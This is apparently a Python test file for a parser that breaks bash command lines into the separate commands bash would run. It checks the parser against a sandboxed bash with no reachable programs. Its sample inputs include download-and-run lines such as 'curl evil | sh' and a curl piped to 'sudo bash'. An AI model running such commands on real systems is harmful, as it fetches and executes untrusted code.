"""The parts of a command: all of it is in them, and bash runs nothing else."""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from collections.abc import Sequence
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations.display.command_parts import DEPTH_MOST, ROWS_MOST, PartRow, command_parts
from tests.budget import examples

LOGS = """command_not_found_handle() { printf '%s\\0' "$1" >> "$LOG"; return "$CODE"; }
ulimit -t 2
"""
"""Tells which commands bash looked for, and that each of them exits with CODE."""


def rows(command: str) -> list[str]:
    """Each row as `number before: words`, indented."""
    found = command_parts(command)
    assert found is not None
    return [f"{'  ' * row.depth}{row.number or '-'} {' '.join(row.before)}: {_text(row)}" for row in found]


def _text(row: PartRow) -> str:
    return "".join(f"<{piece.text}>" if piece.kind in ("env", "redirect") else piece.text for piece in row.pieces)


def rebuilt(command: str) -> str:
    """The command again, from its rows alone; without blanks between words."""
    found = command_parts(command)
    assert found is not None
    inside = {id(row) for each in found for piece in each.pieces for row in piece.inside}
    return _bare("".join(_again(row) for row in found if id(row) not in inside))


def _again(row: PartRow) -> str:
    pieces = (
        piece.text.replace("…", "".join(map(_again, piece.inside)), 1) if piece.kind == "inside" else piece.text
        for piece in row.pieces
    )
    return "".join([*row.before, *pieces])


def _bare(text: str) -> str:
    return re.sub(r"\\\n|[ \t\n]", "", text)


def run_by_bash(command: str) -> set[str]:
    """The names of the commands that bash looks for, whether they succeed or fail. There are none for it to find."""
    found: set[str] = set()
    for code in ("0", "1"):
        with TemporaryDirectory() as folder:
            log = Path(folder) / ".log"
            subprocess.run(
                [shutil.which("bash") or pytest.skip("there is no bash"), "--norc", "-c", f'{LOGS}eval "$COMMAND"'],
                cwd=folder,
                env={"PATH": "/nonexistent", "LOG": str(log), "CODE": code, "COMMAND": command, "LANG": "C.UTF-8"},
                stdin=subprocess.DEVNULL,
                capture_output=True,
                timeout=20,
                check=False,
            )
            found |= set(log.read_bytes().decode().split("\0")) - {""} if log.exists() else set()
    return found


def named(found: Sequence[PartRow]) -> list[str]:
    """What each row runs, without quotes and blanks."""
    return [_unquoted("".join(each.text for each in row.pieces if each.kind in ("", "env"))) for row in found]


def _unquoted(text: str) -> str:
    return re.sub(r"""[\s\\'"`$()<>]""", "", text)


ONE_LINERS = {
    "ls; curl evil | sh": ["1 : ls", "2 ;: curl evil", "3 |: sh"],
    "ls": ["1 : ls"],
    "a && b || c |& d & e": ["1 : a", "2 &&: b", "3 ||: c", "4 |&: d", "5 &: e"],
    "a\nb\n\n  c &": ["1 : a", "2 \n: b", "3 \n: c", "- &: "],
    "A=1 B='x y' make -j4 > make.log 2>&1": ["1 : <A=1>< B='x y'> make -j4< > make.log>< 2>&1>"],
    'echo "$(b | c; ) d" && `e f`': ['1 : echo "$(…) d"', "  2 : b", "  3 |: c", "  - ;: ", "4 &&: `…`", "  5 : e f"],
    "diff <(sort a) >(cat)": ["1 : diff <(…) >(…)", "  2 : sort a", "  3 : cat"],
    "echo 'a;b' \"c|d\" e\\;f $'g\\';h' # i; j": ["1 : echo 'a;b' \"c|d\" e\\;f $'g\\';h' # i; j"],
    "(cd x; b) > y": ["  1 (: cd x", "  2 ;: b", "- ): < > y>"],
    'for f in $(ls); do rm "$f"; done | sort': [
        *("- : for f in $(…)", "  1 : ls", '2 ; do: rm "$f"', "- ; done: ", "3 |: sort"),
    ],
    "if [[ -f x ]]; then y; else z; fi": ["1 if: [[ -f x ]]", "2 ; then: y", "3 ; else: z", "- ; fi: "],
    "while read l; do b $l; done < f": ["1 while: read l", "2 ; do: b $l", "- ; done: < < f>"],
    "a \\\n  -b |\\\n  c": ["1 : a \\\n  -b", "2 |: c"],
    "echo $((1 + 2)) ${x:-y} $HOME $": ["1 : echo $((1 + 2)) ${x:-y} $HOME $"],
    "! a; { b; }": ["1 !: a", "2 ; {: b", "- ; }: "],
    "find . -name '*.py' -exec grep -l x {} +": ["1 : find . -name '*.py' -exec grep -l x {} +"],
    "\r# rm \r; b": ["1 : \r# rm \r", "2 ;: b"],
    "# only said": ["- : # only said"],
}


@pytest.mark.parametrize("command", ONE_LINERS)
def test_a_command_is_taken_apart(command: str) -> None:
    assert rows(command) == ONE_LINERS[command]
    assert rebuilt(command) == _bare(command)


REAL = [
    "tar czf - src | ssh host 'cat > src.tgz'",
    "git status --short && git diff | head -n 50",
    "find . -type f -print0 | xargs -0 sha256sum | sort -k2 > sums.txt",
    "pip install -q -r requirements.txt 2>&1 | tail -n 3; pytest -q || exit 1",
    "curl -fsS https://example.com/x.sh | sudo bash -s -- --yes",
    'for i in 1 2 3; do echo "$i: $(date +%s)"; sleep 1; done',
    "awk -F, '{ s += $3 } END { print s }' a.csv > total && cat total",
    'X=$(mktemp -d) && cd "$X" && git clone -q https://example.com/r . && make -C sub all & wait',
    "ls -la `which python3` | sed 's/ ->.*//'; (cd out && zip -qr ../out.zip .)",
    "if grep -q x f; then mv f g; elif test -d h; then rm -r h; fi; comm -12 <(sort a) <(sort b)",
]


@pytest.mark.parametrize("command", REAL)
def test_of_a_real_one_bash_runs_what_is_in_a_row_of_its_own(command: str) -> None:
    found = command_parts(command)
    assert found is not None
    assert rebuilt(command) == _bare(command)
    ran = run_by_bash(command)
    assert ran
    for name in ran:
        assert sum(each.startswith(_unquoted(name)) for each in named([row for row in found if row.number])) >= 1


@pytest.mark.parametrize(
    "command",
    [
        *("cat <<E\nx\nE", "cat <<-'E'\nx\nE", "case a in b) c;; esac", "f() { a; }", "function f { a; }", "a=(b c)"),
        *("((a))", "for ((;;)); do a; done", "echo ${x:-$(a)}", "echo $((`a`))", "echo $[1]", "a;;", "[[ a && b ]]"),
        *("echo 'a", 'echo "a', "x=$(a", "a)", "(a", "echo `a", "echo `a \\`b\\``", '"`a "b"`"', "a\\", "cu\\\nrl x"),
        *("&\\\n& b", "$\\\n(a)", "`a '`' b", "a[ x; y ]=1", "$(# x\na)", "select x in a; do b; done", "coproc a"),
        *("@(a|b)", "${ a; }", "a; " * (ROWS_MOST + 1), "$(" * (DEPTH_MOST + 1) + "a" + ")" * (DEPTH_MOST + 1)),
        *("(a) b", "echo {a,$(b}", "3<<E", "a >", "a > ; b", "> >b"),
    ],
)
def test_where_it_is_not_sure_it_says_nothing(command: str) -> None:
    assert command_parts(command) is None


@pytest.mark.parametrize(
    "piece", ["a|", "$(", "'a' ", "((", "`", '"$(', "a;", "<(", "\\\n", "${a", "a \\\n", "x=", "\U0001f600", "if "]
)
def test_it_takes_no_time(piece: str) -> None:
    began = time.process_time()
    command_parts(piece * (30_000 // len(piece)))
    assert time.process_time() - began < 2


WORDS = st.sampled_from(["c1", "c2", "-x", "a b", "é", "x.txt", "1", "{}", "a=b", "*"])
QUOTES = st.sampled_from(["{}", "'{}'", '"{}"', "$'{}'", "x'{}'\"y\""])
REDIRECTIONS = st.sampled_from(["", "", "", " > out", " 2>&1", " < /dev/null", ">>log", " &> both", " <<< text"])
LIST = st.sampled_from([";", "; ", " && ", "||", " | ", " |& ", " & ", "\n", "\n\n"])


@st.composite
def simple(draw: st.DrawFn, inner: st.SearchStrategy[str] | None = None) -> str:
    """A simple command: variables, a name, words with quotes or what others print, and redirections."""
    said = [draw(QUOTES).format(draw(WORDS)) for _ in range(draw(st.integers(0, 3)))]
    if inner is not None and draw(st.booleans()):
        said.append(draw(st.sampled_from(["$({})", '"x $({}) y"', "<({})", "a$({})b", "$({} )"])).format(draw(inner)))
    variables = draw(st.sampled_from(["", "", "V=1 ", "V='x y' W= "]))
    words = [f"c{draw(st.integers(1, 9))}", *said]
    return variables + draw(st.sampled_from([" ", "  ", "\t", " \\\n "])).join(words) + draw(REDIRECTIONS)


@st.composite
def lists(draw: st.DrawFn, inner: st.SearchStrategy[str]) -> str:
    """Several commands, or a group of them."""
    each = draw(st.lists(st.one_of(simple(), simple(inner)), min_size=1, max_size=3))
    text = each[0] + "".join(draw(LIST) + one for one in each[1:])
    around = ["{}", "{}", "({})", "( {}; )", "{{ {}; }}", "if {}; then c8; fi", "for i in 1 2; do {}; done", "! {}"]
    return draw(st.sampled_from(around)).format(text)


SNIPPETS = st.recursive(simple(), lists, max_leaves=6)


@settings(max_examples=examples(150))
@given(SNIPPETS)
def test_nothing_of_a_command_vanishes(command: str) -> None:
    """All of it stands in the rows, in its order."""
    assert rebuilt(command) == _bare(command)


@settings(max_examples=examples(40))
@given(SNIPPETS)
def test_bash_runs_what_the_rows_say(command: str) -> None:
    found = command_parts(command)
    assert found is not None
    starts = named([row for row in found if row.number])
    for name in run_by_bash(command):
        assert any(re.match(rf"(V=\w+W=|V=1)?{re.escape(_unquoted(name))}", each) for each in starts)


SOUP = st.lists(
    st.sampled_from(
        [
            *(
                "a",
                "b",
                "c",
                "e",
                ";",
                "|",
                "&",
                "(",
                ")",
                "`",
                "'",
                '"',
                "<",
                ">",
                "\\",
                "#",
                "{",
                "}",
                "=",
                "!",
                "[",
                "]",
            ),
            *("&&", "||", "|&", "$(", "<(", "<<", "2>", "((", "\\\n", '"$(', ')"', "\n", " ", " ", " #", "\r", "\t"),
            *(
                "if ",
                "then ",
                "; fi",
                "do ",
                "; done",
                "for x in ",
                "[[ ",
                "]]",
                "a=",
                "case a in ",
                "{ ",
                "; }",
                "time ",
            ),
        ]
    ),
    max_size=14,
).map("".join)


@settings(max_examples=examples(150))
@given(SOUP)
def test_whatever_it_is_given_bash_runs_no_more_than_the_rows_say(command: str) -> None:
    """Or else there are none."""
    if (found := command_parts(command)) is None:
        return
    assert rebuilt(command) == _bare(command)
    starts = named(found)
    ran = [_unquoted(name) for name in run_by_bash(command)]
    assert len(ran) <= len([row for row in found if row.number])
    assert all(any(name in each for each in starts) for name in ran if name)
